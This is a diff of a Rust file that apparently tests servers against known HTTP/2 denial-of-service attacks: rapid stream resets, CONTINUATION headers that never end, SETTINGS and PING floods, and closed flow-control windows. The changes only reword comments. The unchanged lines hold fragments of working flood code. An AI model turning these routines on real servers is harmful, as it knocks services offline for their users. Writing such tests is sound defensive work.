@@ -1,7 +1,7 @@
-//! By HTTP/2, frame by frame: streams that are reset at once, heads that never end, settings and pings without end.
+//! HTTP/2 attacks at frame level: rapid resets, endless headers, and floods of SETTINGS and PING.
 //!
-//! Source: RFC 9113, section 10.5; CVE-2023-44487 (rapid reset), CVE-2024-27316 and its siblings (CONTINUATION), CVE-2019-9512 (PING),
-//! CVE-2019-9515 (SETTINGS).
+//! Source: RFC 9113, section 10.5; CVE-2023-44487 (rapid reset), CVE-2024-27316 and related ones (CONTINUATION),
+//! CVE-2019-9512 (PING), CVE-2019-9515 (SETTINGS).
 
 use std::io;
 
@@ -30,7 +30,7 @@ pub async fn floods(on: &Ground) {
             1 => endless_head(on, stream).await,
             2 => again(on, stream, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0])).await,
             3 => again(on, stream, &frame(PING, 0, 0, b"12345678")).await,
-            // Windows that stay closed: what is answered cannot leave.
+            // The flow-control windows stay closed, so no response can leave the server.
             _ => closed_window(on, stream).await,
         }
     })
@@ -49,7 +49,7 @@ async fn rapid_reset(on: &Ground, mut stream: TcpStream) -> io::Result<()> {
     Ok(())
 }
 
-/// Not the last part of a head, nor the next one, nor the next one.
+/// Sends CONTINUATION frames without END_HEADERS, so the header block never ends.
 async fn endless_head(on: &Ground, mut stream: TcpStream) -> io::Result<()> {
     stream.write_all(&frame(HEADERS, END_STREAM, 1, &head("/", None))).await?;
     let field = [&[0x00, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
@@ -73,7 +73,7 @@ async fn again(on: &Ground, mut stream: TcpStream, bytes: &[u8]) -> io::Result<(
     }
 }
 
-/// Sends, and takes what has come, so that it is not this that stops.
+/// Sends `bytes` and reads incoming data meanwhile, so this client never blocks the connection.
 async fn send(stream: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
     let (mut reader, mut writer) = stream.split();
     let mut scratch = [0; 4096];
@@ -88,7 +88,8 @@ async fn send(stream: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
     }
 }
 
-/// What a connection begins with: its streams may be sent so much each, all together a lot.
+/// Returns the start of a connection. `window` is the initial window of each stream; the connection window is about 1
+/// GiB.
 pub fn opening(window: u32) -> Vec<u8> {
     let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     let setting = [&[0, 4][..], &window.to_be_bytes()].concat();
@@ -97,7 +98,7 @@ pub fn opening(window: u32) -> Vec<u8> {
     out
 }
 
-/// A `GET` that is complete.
+/// Returns the frame of a complete `GET` request.
 pub fn request(stream: u32, path: &str, accept: Option<&str>) -> Vec<u8> {
     frame(HEADERS, END_HEADERS | END_STREAM, stream, &head(path, accept))
 }
